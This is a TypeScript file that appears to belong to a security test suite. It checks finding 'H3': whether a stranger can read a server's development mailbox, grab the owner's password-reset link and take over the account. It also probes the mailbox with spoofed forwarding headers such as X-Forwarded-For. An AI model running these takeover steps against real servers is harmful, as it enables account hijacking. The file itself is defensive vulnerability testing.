import { type Answer, type Ask, ask, maybe } from '../lib/ask.ts'
import type { Attempt, Finding } from '../lib/attack.ts'
import { eventually } from '../lib/eventually.ts'
import { Letters, letterTo, tokenIn } from '../lib/letters.ts'
import { askToRegister, demoLogin, forgotPassword, logIn, password, resetPassword } from '../lib/people.ts'
import { withSilentProxy } from '../lib/silent-proxy.ts'
import { withServer } from '../lib/target.ts'

const fromOutside: Ask = { headers: { host: 'kamerton.company.ru' } }
const guesses = ['/dev/mail', '/dev/mail.json', '/dev/mail/letters.json', '/dev/mail/index/letters.json']
/** Longer than a requested letter needs to reach the mailbox. */
const letterIsThereAfterSeconds = 8

/**
 * The answers that a stranger gets through the proxy at each address, as soon as one of them contains a letter to this
 * person.
 */
async function lookForLetter(proxy: string, email: string) {
  const look = async () => {
    const answers = []
    for (const path of guesses) answers.push({ path, answer: await ask(proxy, path, fromOutside) })
    const isFound = answers.some(({ answer }) => answer.text.includes(email))
    const shown = ({ status, text }: Answer) =>
      `${status}${text.includes(email) ? ' with the letter' : status === 200 ? ' without the letter' : ''}`
    const seen = answers.map(({ path, answer }) => `${path} ${shown(answer)}`).join(', ')
    return { isFound, seen, letters: answers.flatMap(({ answer }) => maybe(Letters, answer) ?? []) }
  }
  const isThere = async () => {
    const found = await look()
    return found.isFound ? found : undefined
  }
  return (await eventually(isThere, letterIsThereAfterSeconds)) ?? look()
}

const throughSilentProxy: Attempt = {
  done: 'the owner’s reset link is asked for and looked for through a proxy of the same machine that names nobody',
  make: (target) =>
    withServer(target, { DEMO: 'on' }, async (server) => {
      const { email } = demoLogin(server, 'owner')
      await forgotPassword(server, email)
      await letterTo(server, email, ({ kind }) => kind === 'password-reset')
      return withSilentProxy(server.address, async (proxy) => {
        const { isFound, seen, letters } = await lookForLetter(proxy, email)
        const stolen = letters.find(({ kind, to }) => kind === 'password-reset' && to.email === email)
        if (!stolen) return { isOpen: isFound, seen }
        await resetPassword(server, tokenIn(stolen))
        const { status } = await logIn(server, { email, password })
        return { isOpen: true, seen: `${seen}; signed in as the owner by the stolen link: ${status}` }
      })
    }),
}

const forwardingHeaders = ['X-Real-IP', 'Via', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Forwarded-For', 'Forwarded']

const whateverIsSaid: Attempt = {
  done: 'the mailbox’s own address is asked for with each header that says that a proxy passes it on',
  make: (target) =>
    withServer(target, {}, async (server) => {
      const statuses: string[] = []
      let isOpen = false
      for (const header of forwardingHeaders) {
        const { status } = await ask(server.address, server.mailbox, { headers: { [header]: '8.8.8.8' } })
        statuses.push(`${header} ${status}`)
        isOpen ||= status === 200
      }
      const { status } = await ask(server.address, server.mailbox)
      if (status !== 200) throw new Error(`the mailbox answers ${status} to whoever started the server`)
      return { isOpen, seen: `${statuses.join(', ')}; without any ${status}` }
    }),
}

const publicAddress: Attempt = {
  done: 'a new company’s letter is looked for in the same way on a server with PUBLIC_URL=https://kamerton.company.ru',
  make: (target) =>
    withServer(target, { PUBLIC_URL: 'https://kamerton.company.ru' }, (server) =>
      withSilentProxy(server.address, async (proxy) => {
        const email = 'owner@new.example'
        await askToRegister(server, email, 'Новая компания')
        const { isFound, seen } = await lookForLetter(proxy, email)
        return { isOpen: isFound, seen }
      }),
    ),
}

export const keptLetters: Finding = {
  id: 'H3',
  what: 'A stranger reads the letters of a server without SMTP_URL, reset links among them',
  attempts: [throughSilentProxy, whateverIsSaid, publicAddress],
}
